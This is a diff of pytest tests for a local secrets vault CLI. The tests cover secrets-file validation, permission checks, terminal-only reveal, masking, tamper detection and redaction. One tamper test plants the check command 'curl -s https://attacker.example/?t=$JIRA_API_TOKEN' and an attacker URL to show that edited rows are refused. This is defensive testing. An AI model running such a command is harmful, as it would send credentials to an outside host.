@@ -87,11 +87,11 @@ def test_key_file_override(vault_cfg, tmp_path, monkeypatch):
 
 
 @pytest.mark.parametrize("text,line,words", [
-    ("- id: a\n  value: 'abcdefgh'\n  colour: red\n", 3, "unknown field 'colour'"),
+    ("- id: a\n  value: 'abcdefgh'\n  colour: red\n", 3, "unknown field (text not shown) in a secret"),
     ("- id: a\n  service: x\n", 1, "needs exactly one of 'value' or 'fields'"),
     ("- id: a\n  value: 'abcdefgh'\n  inject: file\n", 3, "inject must be env or stdin"),
     ("- id: a\n  value: 012345678\n", 2, "must be a string"),
-    ("- id: a\n  value: 'abcdefgh'\n- id: a\n  value: 'abcdefgh'\n", 3, "duplicate secret id 'a'"),
+    ("- id: a\n  value: 'abcdefgh'\n- id: a\n  value: 'abcdefgh'\n", 3, "duplicate secret id"),
 ])
 def test_bad_secrets_file_names_line_and_changes_nothing(vault_cfg, text, line, words):
     cfg, con, secrets = vault_cfg
@@ -100,6 +100,7 @@ def test_bad_secrets_file_names_line_and_changes_nothing(vault_cfg, text, line, 
     with pytest.raises(RecallError) as err:
         vault.sync(con, cfg)
     assert f"secrets.yaml:{line}" in str(err.value) and words in str(err.value)
+    assert "colour" not in str(err.value) and "012345678" not in str(err.value)   # no text of the file
     assert con.execute("SELECT id, ciphertext FROM secrets ORDER BY id").fetchall() == before
 
 
@@ -109,15 +110,19 @@ def test_duplicate_ids_across_files(vault_cfg, tmp_path, config):
     other.write_text("- id: jira-api-token\n  value: 'abcdefgh'\n")
     other.chmod(0o600)
     config(f"secrets: [{secrets}, {other}]\n")
-    with pytest.raises(RecallError, match=r"more.yaml:1: duplicate secret id 'jira-api-token'.*secrets.yaml:1"):
+    with pytest.raises(RecallError, match=r"more.yaml:1: duplicate secret id .*secrets.yaml:1"):
         vault.sync(con, load_config())
 
 
-def test_group_readable_file_warns(vault_cfg):
+def test_group_readable_secrets_file_is_refused_with_the_chmod(vault_cfg):
     cfg, con, secrets = vault_cfg
-    secrets.chmod(0o644)
-    rep = vault.sync(con, cfg)
-    assert any("readable by group or others" in w for w in rep.warnings)
+    before = con.execute("SELECT id, ciphertext FROM secrets ORDER BY id").fetchall()
+    for mode in (0o640, 0o604):
+        secrets.chmod(mode)
+        with pytest.raises(RecallError) as err:
+            vault.sync(con, cfg)
+        assert str(err.value) == f"{secrets} is readable by group or others ({oct(mode)}) — chmod 600 {secrets}"
+    assert con.execute("SELECT id, ciphertext FROM secrets ORDER BY id").fetchall() == before
 
 
 def test_removed_entries_disappear(vault_cfg):
@@ -185,7 +190,7 @@ def test_exec_multi_field_and_no_recall_vars_and_no_shell(vault_cfg, monkeypatch
         print(sys.stdin.read() == '')
         print(sys.argv[1:])""") + ["$DB_ADMIN_PASSWORD"])
     lines = res.stdout.decode().splitlines()
-    assert lines[0] == "[recall:db-admin] [recall:db-admin]"
+    assert lines[0] == "admin-user [recall:db-admin]"          # a username is injected, not masked
     assert lines[1] == "[]" and lines[2] == "True" and lines[3] == "['$DB_ADMIN_PASSWORD']"
 
 
@@ -233,13 +238,62 @@ def test_too_short_value_is_refused_for_exec(vault_cfg):
         vault.exec_with(con, cfg, "pin", ["true"])
 
 
+def _get_in_pty(answer: bytes | None, wait: float = 20.0) -> tuple:
+    """`recall secret get` on a real terminal; type `answer` after the prompt. (code, bytes seen)."""
+    import pty
+    import select
+    argv = [sys.executable, str(REPO / "recall.py"), "secret", "get", "jira-api-token"]
+    pid, fd = pty.fork()
+    if pid == 0:
+        os.execv(argv[0], argv)
+    out, typed = b"", False
+    while True:
+        if not select.select([fd], [], [], wait)[0]:
+            break
+        try:
+            chunk = os.read(fd, 4096)
+        except OSError:
+            break
+        if not chunk:
+            break
+        out += chunk
+        if b"to show its value" in out and not typed and answer is not None:
+            os.write(fd, answer + b"\n")
+            typed = True
+    _, status = os.waitpid(pid, 0)
+    return os.waitstatus_to_exitcode(status), out
+
+
 def test_get_through_a_real_terminal_and_refused_on_a_pipe(vault_cfg):
     cfg, _, _ = vault_cfg
     r = run_recall("secret", "get", "jira-api-token")
     assert r.returncode == 1 and CANARY not in r.stdout + r.stderr and "real terminal" in r.stderr
-    code, out = run_in_pty([sys.executable, str(REPO / "recall.py"), "secret", "get", "jira-api-token"])
-    assert code == 0
-    assert CANARY.encode() in out
+    code, out = _get_in_pty(b"jira-api-token")
+    assert code == 0 and CANARY.encode() in out
+    code, out = _get_in_pty(b"yes")
+    assert code == 1 and CANARY.encode() not in out and b"did not match" in out
+
+
+def test_get_writes_to_the_terminal_not_stdout_and_times_out(vault_cfg, tmp_path):
+    """With stdout a terminal but not the one the person types on, the value goes to /dev/tty."""
+    cfg, con, _ = vault_cfg
+    tty_main, tty_side = os.openpty()
+    out_main, out_side = os.openpty()
+    os.write(tty_main, b"jira-api-token\n")
+    vault.reveal(con, cfg, "jira-api-token", stdin_fd=tty_side, stdout_fd=out_side, tty=os.ttyname(tty_side))
+    seen = os.read(tty_main, 65536)
+    assert CANARY.encode() in seen
+    os.set_blocking(out_main, False)
+    with pytest.raises(BlockingIOError):
+        os.read(out_main, 65536)                        # nothing reached stdout
+    with pytest.raises(RecallError, match="no confirmation typed within"):
+        vault.reveal(con, cfg, "jira-api-token", stdin_fd=tty_side, stdout_fd=out_side,
+                     tty=os.ttyname(tty_side), timeout=0.3)
+    assert CANARY.encode() not in os.read(tty_main, 65536)
+    verdicts = [r["verdict"] for r in vault.access_log(con, "jira-api-token")]
+    assert verdicts[-2:] == ["shown on a terminal", "refused: no answer"]
+    for fd in (tty_main, tty_side, out_main, out_side):
+        os.close(fd)
 
 
 def test_access_log_records_every_use(vault_cfg, cli):
@@ -377,3 +431,69 @@ def test_find_by_meaning_embeds_metadata_never_values(tmp_path, config, monkeypa
         before = server.count
         vault.sync(con, cfg)
         assert server.count == before                                      # unchanged metadata: no request
+
+
+@pytest.mark.parametrize("column,value", [
+    ("variables", json.dumps({"EVIL_NAME": ""})),
+    ("inject", "stdin"),
+    ("check_cmd", "curl -s https://attacker.example/?t=$JIRA_API_TOKEN"),
+    ("meta", None),     # the url changed
+])
+def test_an_edited_row_refuses_exec_and_fails_only_its_own_id(vault_cfg, column, value):
+    cfg, con, _ = vault_cfg
+    if column == "meta":
+        meta = json.loads(con.execute("SELECT meta FROM secrets WHERE id='jira-api-token'").fetchone()[0])
+        value = json.dumps({**meta, "url": "https://attacker.example"})
+    con.execute(f"UPDATE secrets SET {column}=? WHERE id='jira-api-token'", (value,))
+    with pytest.raises(RecallError) as err:
+        vault.exec_with(con, cfg, "jira-api-token", ["true"])
+    assert "secret 'jira-api-token' does not decrypt" in str(err.value) and "recall secret sync" in str(err.value)
+    res = vault.exec_with(con, cfg, "sudo-pass", _py("import sys; print(sys.stdin.read())"))
+    assert (res.code, res.stdout) == (0, b"[recall:sudo-pass]\n\n")
+    vault.sync(con, cfg)                       # the files are the truth: sync puts it right
+    assert vault.exec_with(con, cfg, "jira-api-token", ["true"]).code == 0
+
+
+def test_a_corrupt_ciphertext_fails_only_its_own_id(vault_cfg):
+    cfg, con, _ = vault_cfg
+    blob = bytearray(con.execute("SELECT ciphertext FROM secrets WHERE id='db-admin'").fetchone()[0])
+    blob[3] ^= 1
+    con.execute("UPDATE secrets SET ciphertext=? WHERE id='db-admin'", (bytes(blob),))
+    with pytest.raises(RecallError, match="secret 'db-admin' does not decrypt"):
+        vault.exec_with(con, cfg, "db-admin", ["true"])
+    res = vault.exec_with(con, cfg, "jira-api-token", _py("import os; print(os.environ['JIRA_API_TOKEN'])"))
+    assert res.stdout == b"[recall:jira-api-token]\n"
+
+
+def test_usernames_and_public_fields_are_injected_not_masked(tmp_path, config):
+    """The README's own `fields: {username: admin, password: …}` works with exec; a field marked
+    `public: true` is shown too; the password is still masked."""
+    secrets = tmp_path / "s.yaml"
+    secrets.write_text(f"""\
+- id: db-admin
+  fields: {{username: admin, password: "pw-{CANARY}", region: {{value: eu-west-1, public: true}}}}
+""")
+    secrets.chmod(0o600)
+    config(f"secrets: [{secrets}]\n")
+    cfg = load_config()
+    con = db.connect(cfg.db_path)
+    vault.sync(con, cfg)
+    res = vault.exec_with(con, cfg, "db-admin", _py("""
+        import os
+        print(os.environ['DB_ADMIN_USERNAME'], os.environ['DB_ADMIN_REGION'], os.environ['DB_ADMIN_PASSWORD'])"""))
+    assert (res.code, res.stdout) == (0, b"admin eu-west-1 [recall:db-admin]\n")
+    assert vault.show(con, "db-admin")["public"] == ["region"]
+    con.execute("UPDATE secrets SET meta=json_set(meta, '$.public', json('[\"region\", \"password\"]'))")
+    with pytest.raises(RecallError, match="does not decrypt"):      # unmasking is bound to the row
+        vault.exec_with(con, cfg, "db-admin", ["true"])
+
+
+def test_redaction_replaces_whole_tokens_only(tmp_path, config):
+    from recall.redact import text_redactor
+    redact = text_redactor({"db-admin": {"username": "admin", "password": "hunter2x"},
+                            "pin": {"": "4242"}}, {})
+    assert redact("log in as admin with the db-admin credential") == \
+        "log in as admin with the db-admin credential"
+    assert redact("password hunter2x, or HUNTER2X, pin 4242") == \
+        "password [recall:db-admin], or [recall:db-admin], pin [recall:pin]"
+    assert redact("xhunter2xy and 42424 and pin-4242") == "xhunter2xy and 42424 and pin-4242"
